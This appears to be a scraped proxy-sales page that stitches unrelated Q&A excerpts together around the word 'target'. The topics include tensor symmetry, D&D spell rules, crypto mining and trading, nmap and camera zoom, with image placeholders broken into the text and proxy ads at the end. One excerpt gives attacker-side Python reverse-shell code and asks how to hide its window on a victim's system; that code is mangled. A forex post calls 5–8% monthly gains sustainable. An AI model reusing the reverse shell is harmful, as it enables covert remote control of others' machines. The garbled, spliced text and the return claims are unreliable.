algorithms – Modify set to come as close as possible to target set

Note: I am searching for an algorithm that can do what I need or something similar to it, so that I can try to adapt it to my needs. My idea here was to ask for a reference (e.g. “This can besolved using an algorithm called xyz”) but obviously I would also appreciate it if someone took the time to create one on-the-fly. The latter is not my expectation though. I am mostly looking for some keywords to continue my research on.

Algorithm description

I am searching for an algorithm that can bring a given set of elements as close to a different set of the same length as possible. However the tricky part is that only specific elements may be exchanged.

The elements in the set can be assumed to have an intrinsic order. That is we can define a series a < b < c < d < ... for all elements across the sets.

The allowed changes are not known beforehand but are generally in the form of “replace the i-th element in the set with the j-th one” or “Replace the i-th and the j-th element and at the same time the k-th with l-th” or any extension of that. Thus: Pairwise exchanges of one or more pairs of elements where not the element itself but its position within the set is important.

As an example consider the set {abcd} and we want to check whether we can turn this into {dabc}. The allowed modifications are:

  • Switch 0-th with 1-st
  • Switch 2nd with 3rd

Using these rules it is impossible to convert the starting set into the target set and thus something that comes as close as possible to it, is enough.

The exact measure of “closeness” is not relevant for me, as long as the end-result is always the same, nomatter from which permutation of the set I start (provided it is possible to arrive at the solution using only the given modifications). So in this example it should not matter whether I start from {abcd} or e.g. {badc}.

The other characteristic of the searched for algorithm is that if it is possible to reach the given target set with the allowed modifications, the algorithm should always transform my start set into the target set.

The underlying application

The context to where I intend to use an algorithm as described above is todetermine whether two Tensor specifications (for our intents and purposes a “Tensor” is a multidimensional array) are really referring to one and the same element, taking the Tensor’s symmetry into account.

So for instance a Tensor could be $G^{ij}_{ab}$ and its symmetries allow exchange index $i$ with $j$. Therefore $G^{ji}_{ab}$ must have the exact same value because there exists a symmetry-relation that tells us that these two must be equal. $G^{ij}_{ba}$ on the other hand would be a different element.

My idea was to establish something of a “canonical” order of indices such that Tensor elements that are really the same, end up being written in the exact same way and therefore can be compared for equality by a simple == check.

In order to do that I would map the indices into a set of indices (e.g. {ijab}) which I can sort, since my indices are comparable. Therefore I can create a target set of indices that is independent of the starting set and thus I can use that as a common reference point for all Tensors that containthe same indices (but maybe in different order).

dnd 5e – Do multiple instances of the Death Ward spell stack on the same target?

In most situations, spell effects of the same name do not stack, per the rule on combining game effects added in the errata for the DMG (p. 252):

(…) when two or more game features have the same name, only the effects of one of them—the most potent one—apply while the durations of the effects overlap. (…)

However, the death ward spell may be an exception to the intent of the rule. Death ward is unique compared toother durable buffs, because it both replaces its trigger and ends when it triggers (emphasis mine):

The first time the target would drop to 0 hit points as a result of taking damage, the target instead drops to 1 hit point, and the spell ends.

I can see two possible interactions with multiple castings of death ward:

Scenario A

  1. Carl has two instances of death ward active on him. Only the most recent one applies.
  2. Carl takes a hit that would drop him to 0 hit points.
  3. The active instance of death ward triggers, dropping Carl to 1 hitpoint instead and ending that instance of death ward.
  4. Because Carl did not drop to 0 hit points, the inactive instance of death ward does not trigger.
  5. Carl now has a single instance of death ward active.

In this scenario, Carl effectively has two stacks of death ward.

Scenario B

  1. Carl has two instances of death ward active on him. Only the most recent one applies.
  2. Carl takes a hit that would drop him to 0 hit points.
  3. Both instances of death ward trigger. The activation of death ward causes Carl to drop to 1 hit point instead of 0 hit points.
  4. Carl has no instances of death ward active anymore.

In this scenario, the instances of death ward do not stack. Note that this scenario is identical to the ones described in this Q&A: What happens when identical overlapping effects have their end-condition met?

Which of these scenarios is correct?

blockchain – Python code error : Hash greater than Target

While trying to run a reference code from GitHUb i am getting an error “Cannot Mine-Hash is greater than Target”. As i am just a beginner with coding i am not able to figure this out. Kindly help me to fix this

Complete reference code link:


Any help regarding the same is highly appreciated. Thank you

mining pools – Why is mytarget different from a miner?

I’m developing a miner to study how mining works and I’ve connected it to a pool using Stratum. When I use the bits provided by the pool to calculate the target, it is different from the miner that I use (cpuminer). The target from cpuminer is easier than mine, like, the cpuminer target has 4 leading zeroes and mine has like 13 leading zeroes. I also noticed that the pool sends the difficulty, but I have no idea how should I use it.

How should I use the difficulty provided by the pool to calculate my target?

exchanges – How to figure out a limit price when setting a BUY price target?

Using market-price makes me nervous when buying crypto, especially if I am setting up automated trades e.g. “buy if price > X”:

  1. not only can prices change very quickly but
  2. I have seen very briefblips (typically on other coins but I think it’s still possible on BTC) where for a few seconds the price may spike/crash 50% perhaps due to a very large trade – these could wreak havoc on my trades if I caught one

So limit buys seem preferable to me. But since the price is always changing and we have spread to consider, what is the normal way to do this?

Say I want to create an order to buy BTC when the market reaches $50k because I think that would signal a breakout. If I understand correctly it’s no point setting my limit as $50k because if the price is rising, I already missed my price-point.

What would be a typical strategy when setting these limit prices… is there a “normal way” of doing this I haven’t read about?

ASK – What is your monthly target? | Proxies-free

Having a target set for forex trading, is really necessary so that we can stick to our plans. As we know, that forex market needs attention towards risk management, hence setting a target is also a part of that management only.

What is a perfect target for a trader on a monthly basis? I would say, around 5% to 8% profit per month is very sustainable as well as very lucrative. Because if you calculate that on yearly basis it will become 60 to 96% which is a very profitable return.

Hide payload window on target system. Python Reverse Shell

Using this simple python reverse shell,and I have a simple question about it. When this runs, a command window pops up on the target windows system. Is there a way to hide it?

import socket

attacker_server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)

# lets the attacker server listen on the specified port number
def attacker_server_binder(hostname, port_number):
    attacker_server.bind((hostname, port_number))

# listening for connections
def target_client_connection_receiver():
    while True:
        # receive connection from target client
        target_client, target_client_address = attacker_server.accept()
        if(target_client != None):
    print("Connection established to targetn $reverse_shell: ", end="")
    return target_client

    # connects to the client being targeted
    def send_data(data, target_client):
        target_client.send(bytes(data, 'utf-8'))
        acknowledgement =  target_client.recv(BUFFER_SIZE)
        if(acknowledgement == b'ACK'):
            # print("Data received at target end")
            print("Acknowledgement receipt not received.n$reverse_shell: ", end = "")
    def receive_data(target_client):response = ""
        while True:
            received_data = target_client.recv(BUFFER_SIZE)
            received_data =received_data.decode('utf-8')
            response = response + received_data
            if(len(received_data) < BUFFER_SIZE):
        print(response + "n$reverse_shell: ", end= "")
    def command_handler(target_client):
        data = str(input())
            file_handler(target_client, data)
        send_data(data, target_client)
    def file_handler(target_client, command):
        target_client.send(bytes(command, 'utf-8'))
        acknowledgement = target_client.recv(BUFFER_SIZE)
        if(acknowledgement ==b'ACK'):
        data_splits = command.split(' ')
        mode = data_splits(2)
        if(mode == 'r'):
        elif(mode == 'w' or mode == 'a'):
            print("enter FILE_UPDATE_QUIT to end data transfer")
            while True:
                data = str(input("--> "))
                target_client.send(bytes(data, 'utf-8'))
                if(data == 'FILE_UPDATE_QUIT'):
    def main():
        attacker_server_binder("", 1234)
        # receive connection from target clienttarget_client = target_client_connection_receiver()
        while True:

dnd 5e – What fraction of a typical campaign’s Wisdom saving throws that target Players are for charm, for fear, or for psychic damage?

I’m contemplating my assignment of ability scores for my first Aberrant Mind Sorcerer, and I have one odd number that I’m considering putting into either Dexterity or Wisdom.

Because my impression is that failed Wisdom saving throws cause more dangerous secondary effects than failed Dexterity ones, I’d normally put the odd score into Wisdom and plan to even it out later with the Resilient (WIS) feat (PHB pg. 168):

Choose one ability score. You gain the following benefits:

  • Increase the chosen ability score by 1, to a maximum of 20.
  • You gain proficiency in saving throws using the chosen ability.

However, the Aberrant Mind sorcerer has the Psychic Defenses feature at level 6 (TCoE pg. 68):

You gain resistance to psychic damage, and you have advantage on saving throws against being charmed and frightened.

Because charm, fear, and psychic damage often come by way of failed WIS saving throws, this feature clearly devalues Resilient (WIS) to some degree, but by how much?

When I filter the spells currently on D&D Beyond, 12 of the 15 that cause charm, 8 of the 11 that cause fear, and 8 of the 18 that do psychic damage require WIS saves, for a total of 28/44 = 64%, or about two thirds. (I may have failed to cull some that remove the effect instead of causing it, so these numbers are approximate.)

However, enemy abilities and lair effects don’t necessarily have the same statistical profile as the Player Character spells. Thus my question: What fraction of a typical campaign’sWisdom saving throws that target Players are for charm, for fear, or for psychic damage?

Then, as a bonus question: Does this devalue Resilient (WIS) enough that it would be smarter to put my odd ability score in Dexterity and plan to take Resilient (DEX) instead?

tls – Why does nmap scan from a Window machine then a Kali machine give different outputs for the same target?

tls – Why does nmap scan from a Window machine then a Kali machine give different outputs for the same target? – Information Security Stack Exchange

focal length – Is x50 zoom camera able to zoom 500 meter target area from a 6 km distance?

I have a x50 zoom camera and here is some specs of the camera and lens:

  • Focal length: 6 mm ~ 300 mm
  • Field of view: 58.4° ~ 1.4°
  • Resolution: 2 MPI drew a scheme to explain my question properly, you can see below:

enter image description here

Ihave a 500 meter diameter circle area 6 km distance to my camera. My question is that is this camera able to zoom to this target area or not ? Can we calculate this with these camera specs ? If yes how ?

Thank you all.DreamProxies - Cheapest USA Elite Private Proxies 100 Cheapest USA Private Proxies Buy 200 Cheap USAPrivate Proxies 400 Best Private Proxies Cheap 1000 USA Private Proxies 2000 USA Private Proxies 5000 Cheap USA PrivateProxies - Buy Cheap Private Proxies Buy 50 Private Proxies Buy 100 Private Proxies Buy 200 Private Proxies Buy 500 Private Proxies Buy 1000Private Proxies Buy 2000 Private Proxies New Proxy Lists Every Day BuyQuality Private Proxies